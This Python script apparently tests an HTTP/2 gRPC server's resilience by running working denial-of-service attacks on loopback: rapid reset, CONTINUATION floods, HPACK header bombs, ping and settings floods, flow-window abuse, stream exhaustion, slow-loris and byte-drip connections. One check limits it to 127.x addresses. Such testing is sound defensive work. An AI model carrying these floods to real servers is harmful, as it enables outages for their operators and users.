#!/usr/bin/python3
"""Attacks an HTTP/2 server on loopback, bounded in frames and time. Prints the outcome as JSON."""

import argparse
import json
import time

from http2 import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE,
                   PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, call_headers, frame, header, message)

PREDICT = b"/maneuver.v1.PredictionService/Predict"
HEALTH = b"/grpc.health.v1.Health/Check"
WATCH = b"/grpc.health.v1.Health/Watch"
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
# ServerReflectionRequest {file_containing_symbol: ...}: a question of 40 bytes with an answer of many kilobytes.
ASK_FOR_CONTRACT = b"\x22\x25maneuver.v1.PredictionService.Predict"
BATCH = 64  # frames that are sent together
LARGEST = 16384  # bytes of a frame that every peer takes


def batches(count, make):
    """`make(i)` for 0 <= i < count, joined to sends of BATCH."""
    for first in range(0, count, BATCH):
        yield b"".join(make(i) for i in range(first, min(first + BATCH, count)))


def stream(i):
    return 2 * i + 1


def fragments(block, number):
    """A header block as HEADERS and CONTINUATION frames."""
    parts = [block[i:i + LARGEST] for i in range(0, len(block), LARGEST)]
    frames = [frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), number, parts[0])]
    frames += [frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, number, part) for part in parts[1:]]
    return b"".join(frames)


def ping(count):
    """Pings whose answers nobody reads."""
    return batches(count, lambda i: frame(PING, 0, 0, i.to_bytes(8, "big")))


def settings(count):
    """Settings whose acknowledgements nobody reads."""
    return batches(count, lambda i: frame(SETTINGS, 0, 0))


def rapid_reset(count):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    block = call_headers(PREDICT)
    cancel = CANCEL.to_bytes(4, "big")
    return batches(count, lambda i: frame(HEADERS, END_HEADERS, stream(i), block) + frame(RST_STREAM, 0, stream(i), cancel))


def continuation(count):
    """Headers of one call that do not end (CVE-2024-27316 and others)."""
    filling = header(b"x-filling", b"f" * 4000) * 4
    yield frame(HEADERS, 0, 1, call_headers(PREDICT))
    yield from batches(count, lambda i: frame(CONTINUATION, 0, 1, filling))


def empty_continuation(count):
    """The same without a byte: nothing but work."""
    yield frame(HEADERS, 0, 1, call_headers(PREDICT))
    yield from batches(count, lambda i: frame(CONTINUATION, 0, 1))


def header_size(count):
    """Calls with 64 KiB of headers each."""
    block = call_headers(PREDICT, *[header(b"x-%d" % i, b"h" * 4000) for i in range(16)])
    return batches(count // 10, lambda i: fragments(block, stream(i)))


def header_bomb(count):
    """Calls whose headers name one remembered header of 4 kB four thousand times: 4 kB that decode to 16 MB."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, call_headers(PREDICT, header(b"x", b"b" * 4000, remember=True)))
    block = call_headers(PREDICT) + b"\xbe" * 4000  # 62: the newest entry of the dynamic table
    yield from batches(count // 10, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, stream(i + 1), block))


def windows(count):
    """Questions with large answers and no window for them, then windows that open byte by byte and close again."""
    setting = INITIAL_WINDOW_SIZE.to_bytes(2, "big")
    yield frame(SETTINGS, 0, 0, setting + (0).to_bytes(4, "big"))
    yield from batches(100, lambda i: frame(HEADERS, END_HEADERS, stream(i), call_headers(REFLECTION))
                       + frame(DATA, END_STREAM, stream(i), message(ASK_FOR_CONTRACT)))
    yield from batches(count, lambda i: frame(WINDOW_UPDATE, 0, stream(i % 100), (1).to_bytes(4, "big")) if i % 20
                       else frame(SETTINGS, 0, 0, setting + (i // 20 % 2).to_bytes(4, "big")))


def priority(count):
    """Priorities of streams that do not exist."""
    return batches(count, lambda i: frame(PRIORITY, 0, stream(i), b"\x00\x00\x00\x00\x10"))


def empty_data(count):
    """Frames of a call without a byte that do not end it."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
    yield from batches(count, lambda i: frame(DATA, 0, 1))


def half_messages(count):
    """A hundred calls that promise 64 KiB each, send half of it, and stay."""
    parts = [message(b"m" * (LARGEST - 5), declared=4 * LARGEST), b"m" * LARGEST]
    return batches(min(count, 100), lambda i: frame(HEADERS, END_HEADERS, stream(i), call_headers(PREDICT))
                   + b"".join(frame(DATA, 0, stream(i), part) for part in parts))


def open_calls(count):
    """Health checks that begin and never end, on more streams than one connection may have."""
    return batches(count // 20, lambda i: frame(HEADERS, END_HEADERS, stream(i), call_headers(HEALTH)))


def watches(count):
    """Watches of the health, as many as one connection may have: they never end by themselves."""
    return batches(count // 20, lambda i: frame(HEADERS, END_HEADERS, stream(i), call_headers(WATCH))
                   + frame(DATA, END_STREAM, stream(i), message(b"")))


def idle(count):
    """A connection that begins and then says nothing: for many connections."""
    yield frame(SETTINGS, 0, 0)


FLOODS = {flood.__name__.replace("_", "-"): flood for flood in (
    ping, settings, rapid_reset, continuation, empty_continuation, header_size, header_bomb, windows, priority, empty_data,
    half_messages, open_calls, watches, idle)}
UNREAD = ("ping", "settings", "windows")


def attack(options):
    """Floods all connections in turn, a batch at a time, then holds them until time is up or the server closes them."""
    end = time.monotonic() + options.seconds
    told = {"connections": 0, "refused": 0, "closed": 0, "sent_bytes": 0,
            "received_bytes": 0, "goaway": []}

    def connect():
        connection = Connection(options.address, options.source, end, options.authority, reads=options.name not in UNREAD)
        told["refused" if connection.closed else "connections"] += 1
        return connection

    live = [(connect(), FLOODS[options.name](options.frames)) for _ in range(options.connections)]
    finished = []
    while live and time.monotonic() < end:
        connection, flood = live.pop(0)
        batch = next(flood, None)
        if batch is None or connection.closed or not connection.send(batch):
            finished.append(connection)
        else:
            live.append((connection, flood))
            time.sleep(options.pause)
    finished += [connection for connection, _ in live]
    if options.name in UNREAD:
        time.sleep(max(0, end - time.monotonic()))
    for connection in finished:
        connection.wait_for_end(end if connection is finished[0] else time.monotonic() + 0.01)
        told["closed"] += connection.closed
        told["sent_bytes"] += connection.sent_bytes
        told["received_bytes"] += connection.received_bytes
        if connection.goaway and connection.goaway not in told["goaway"]:
            told["goaway"].append(connection.goaway)
        connection.close()
    return told


# What a slow loris sends: bytes at once, then bytes that drip. It falls silent after the last one.
DRIP_S = 0.4  # between two bytes
GREETING = PREFACE + frame(SETTINGS, 0, 0)
CALL = GREETING + frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
# These never begin TLS, or never end its handshake. The last one drips.
BEFORE_TLS = {"no handshake": (b"", b""), "half a handshake": (b"\x16\x03\x01\x02\x00\x01\x00", b""),
              "a handshake": (b"", b"\x16\x03\x01\x40\x00\x01" + bytes(0x4000))}
SILENT = {
    "nothing": b"",
    "half a preface": PREFACE[:10],
    "a preface": PREFACE,
    "half a frame": GREETING + frame(PING, 0, 0, b"12345678")[:12],
    "half the headers": GREETING + frame(HEADERS, 0, 1, call_headers(PREDICT)[:40]),
    "settings": GREETING + frame(SETTINGS, ACK, 0),
    "half a message": CALL + frame(DATA, 0, 1, message(b"half", declared=8)),
}
LONG_HEADERS = frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT, header(b"x", b"x" * 4000)))
DRIPPING = {
    "the preface": (b"", GREETING),
    # The 9 bytes that begin the frame come at once: HAProxy counts from them.
    "headers": (GREETING + LONG_HEADERS[:9], LONG_HEADERS[9:]),
    "CONTINUATION": (GREETING + frame(HEADERS, 0, 1, call_headers(PREDICT)),
                     frame(CONTINUATION, 0, 1, header(b"x", b"y")) * 1000),
    "a message": (CALL, frame(DATA, 0, 1, message(bytes(4000), declared=8000))),
}
PHASES = {"loris": {phase: (said, b"") for phase, said in SILENT.items()}, "drip": DRIPPING}


class SlowConnection:
    """A connection of a slow loris."""

    def __init__(self, phase, connection, drips):
        self.phase, self.connection, self._drips = phase, connection, drips
        self._begun = self._next = time.monotonic()
        self.closed_after_s = self.answered_after_s = None

    def look(self):
        """Sends a byte if it is time for one, and looks at what the peer did."""
        now = time.monotonic()
        if self._drips and now >= self._next:
            self.connection.send(self._drips[:1])
            self._drips, self._next = self._drips[1:], now + DRIP_S
        self.connection.drain()
        took = round(now - self._begun, 1)
        if self.connection.ended_calls and self.answered_after_s is None:
            self.answered_after_s = took
        if self.connection.closed:
            self.closed_after_s = took


def loris(options):
    """Opens slow connections, each in the next phase. Tells how long each phase was tolerated.

    `closed_after_s` and `answered_after_s` are the longest times until a connection of the phase was closed, and until
    its call was answered; `still_open` and `unanswered` count the others.
    """
    end = time.monotonic() + options.seconds
    before_tls = {phase: said for phase, said in BEFORE_TLS.items() if bool(said[1]) == (options.name == "drip")}
    phases = {**(before_tls if options.authority else {}), **PHASES[options.name]}
    slow = []
    for i in range(options.connections):
        phase = list(phases)[i % len(phases)]
        authority = None if phase in before_tls else options.authority
        connection = Connection(options.address, options.source, end, authority, greet=False)
        connection.send(phases[phase][0])
        slow.append(SlowConnection(phase, connection, phases[phase][1]))
    time.sleep(0.2)  # for those that are one too many
    for one in slow:
        if not one.connection.closed:
            one.connection.drain()
    admitted = waiting = [one for one in slow if not one.connection.closed]
    while waiting and time.monotonic() < end:
        for one in waiting:
            one.look()
        waiting = [one for one in waiting if not one.connection.closed]
        time.sleep(0.05)
    told = {"refused": len(slow) - len(admitted), "closed": len(admitted) - len(waiting),
            "sent_bytes": sum(one.connection.sent_bytes for one in slow),
            "goaway": sorted({one.connection.goaway for one in slow if one.connection.goaway})}
    for phase in phases:
        of_phase = [one for one in admitted if one.phase == phase]
        closed = [one.closed_after_s for one in of_phase if one.closed_after_s is not None]
        answered = [one.answered_after_s for one in of_phase if one.answered_after_s is not None]
        told.setdefault("closed_after_s", {})[phase] = max(closed, default=None)
        told.setdefault("still_open", {})[phase] = len(of_phase) - len(closed)
        told.setdefault("answered_after_s", {})[phase] = max(answered, default=None)
        told.setdefault("unanswered", {})[phase] = len(of_phase) - len(answered)
    for one in slow:
        one.connection.close()
    return told


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=[*FLOODS, *PHASES])
    parser.add_argument("--address", required=True, help="127.0.0.1:PORT")
    parser.add_argument("--source", default="127.0.0.66", help="address to attack from, also on loopback")
    parser.add_argument("--authority", help="attack over TLS; the authority of the server's certificate, PEM")
    parser.add_argument("--frames", type=int, default=20000, help="at most, on each connection")
    parser.add_argument("--seconds", type=float, default=3, help="until all connections are closed")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--pause", type=float, default=0, help="seconds after each batch of 64 frames or calls")
    options = parser.parse_args()
    if not (options.address.startswith("127.") and options.source.startswith("127.")):
        parser.error("only this machine's loopback may be attacked")
    print(json.dumps(loris(options) if options.name in PHASES else attack(options)))


if __name__ == "__main__":
    main()
